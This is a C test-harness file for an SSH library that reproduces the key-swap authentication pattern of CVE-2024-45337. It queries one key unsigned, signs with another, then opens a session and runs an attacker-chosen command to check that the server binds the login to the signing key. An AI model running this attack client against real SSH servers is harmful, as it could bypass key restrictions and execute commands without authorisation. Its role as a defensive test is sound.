// SPDX-License-Identifier: MIT
/*
 * hostile_peer's key-swap case (CVE-2024-45337's shape): ask about key B
 * without a signature, then authenticate with key A's signature, open a
 * session and exec a command of our choosing. The server must bind the
 * login (and the authorized_keys options, such as a forced command) to A,
 * the key that signed. Prints what happened: the replies, then the
 * session's output.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "kssh/err.h"
#include "kssh/key.h"
#include "kssh/msg.h"
#include "kssh/transport.h"
#include "conn_io.h"
#include "hostile_peer.h"

static int pubkey_request(struct kssh_conn *c, const char *user, const struct kssh_key *k, int sign)
{
	const char *alg = kssh_key_type_name(k->type);
	struct kssh_buf blob, data, sig, *b;
	const uint8_t *sid;
	uint32_t sid_len;
	int r;

	kssh_buf_init(&blob, 1 << 16);
	kssh_buf_init(&data, 1 << 16);
	kssh_buf_init(&sig, 1 << 16);
	if ((r = kssh_key_to_blob(k, &blob)) != 0)
		goto out;
	b = kssh_transport_begin(c->t, SSH_MSG_USERAUTH_REQUEST);
	kssh_buf_put_cstring(b, user);
	kssh_buf_put_cstring(b, "ssh-connection");
	kssh_buf_put_cstring(b, "publickey");
	kssh_buf_put_u8(b, (uint8_t)sign);
	kssh_buf_put_cstring(b, alg);
	kssh_buf_put_buf_string(b, &blob);
	if (sign) {
		/* RFC 4252 7: what the signature covers */
		sid = kssh_transport_session_id(c->t, &sid_len);
		kssh_buf_put_string(&data, sid, sid_len);
		kssh_buf_put_u8(&data, SSH_MSG_USERAUTH_REQUEST);
		kssh_buf_put_cstring(&data, user);
		kssh_buf_put_cstring(&data, "ssh-connection");
		kssh_buf_put_cstring(&data, "publickey");
		kssh_buf_put_u8(&data, 1);
		kssh_buf_put_cstring(&data, alg);
		kssh_buf_put_buf_string(&data, &blob);
		if ((r = kssh_key_sign(k, alg, kssh_buf_ptr(&data), kssh_buf_len(&data), &sig)) != 0)
			goto out;
		kssh_buf_put_buf_string(b, &sig);
	}
	r = kssh_transport_send(c->t);
out:
	kssh_buf_release(&blob);
	kssh_buf_release(&data);
	kssh_buf_release(&sig);
	return r;
}

static int next(struct kssh_conn *c, uint8_t *type, struct kssh_buf *payload)
{
	int r;

	while ((r = conn_next_message(c, type, payload)) == 0 && *type == SSH_MSG_USERAUTH_BANNER)
		;
	return r;
}

int hostile_key_swap(struct kssh_conn *c)
{
	const char *user = getenv("HOSTILE_USER"), *cmd = getenv("HOSTILE_CMD");
	struct kssh_key *a = NULL, *b = NULL;
	struct kssh_buf payload, *m;
	uint32_t chan = 0;
	uint8_t type;
	int r;

	if (user == NULL || cmd == NULL || getenv("HOSTILE_KEY_A") == NULL || getenv("HOSTILE_KEY_B") == NULL ||
	    kssh_key_load_private(getenv("HOSTILE_KEY_A"), &a) != 0 ||
	    kssh_key_load_private_public(getenv("HOSTILE_KEY_B"), &b) != 0)
		return -1;
	m = kssh_transport_begin(c->t, SSH_MSG_SERVICE_REQUEST);
	kssh_buf_put_cstring(m, "ssh-userauth");
	kssh_transport_send(c->t);
	if (next(c, &type, &payload) != 0 || type != SSH_MSG_SERVICE_ACCEPT)
		return -1;
	/* B: asked about, never proven */
	pubkey_request(c, user, b, 0);
	r = next(c, &type, &payload);
	printf("query B: %s\n", r != 0 ? kssh_strerror(r) : type == SSH_MSG_USERAUTH_PK_OK ? "PK_OK" : "failure");
	/* A: signed */
	pubkey_request(c, user, a, 1);
	r = next(c, &type, &payload);
	printf("signed A: %s\n", r != 0 ? kssh_strerror(r) : type == SSH_MSG_USERAUTH_SUCCESS ? "success" : "failure");
	if (r != 0 || type != SSH_MSG_USERAUTH_SUCCESS)
		goto done;
	m = kssh_transport_begin(c->t, SSH_MSG_CHANNEL_OPEN);
	kssh_buf_put_cstring(m, "session");
	kssh_buf_put_u32(m, 0);
	kssh_buf_put_u32(m, 1 << 20);
	kssh_buf_put_u32(m, 32768);
	kssh_transport_send(c->t);
	while ((r = next(c, &type, &payload)) == 0 && type != SSH_MSG_CHANNEL_OPEN_CONFIRMATION)
		;
	if (r != 0 || kssh_buf_peek_u32(&payload, 5, &chan) != 0)
		goto done;
	m = kssh_transport_begin(c->t, SSH_MSG_CHANNEL_REQUEST);
	kssh_buf_put_u32(m, chan);
	kssh_buf_put_cstring(m, "exec");
	kssh_buf_put_u8(m, 0);
	kssh_buf_put_cstring(m, cmd);
	kssh_transport_send(c->t);
	printf("output: ");
	while ((r = next(c, &type, &payload)) == 0 && type != SSH_MSG_CHANNEL_CLOSE && type != SSH_MSG_CHANNEL_EOF) {
		const uint8_t *p;
		size_t n;

		if (type != SSH_MSG_CHANNEL_DATA)
			continue;
		kssh_buf_consume(&payload, 5);
		if (kssh_buf_get_string_view(&payload, &p, &n) == 0)
			fwrite(p, 1, n, stdout);
	}
	printf("\n");
done:
	kssh_key_free(a);
	kssh_key_free(b);
	return 0;
}
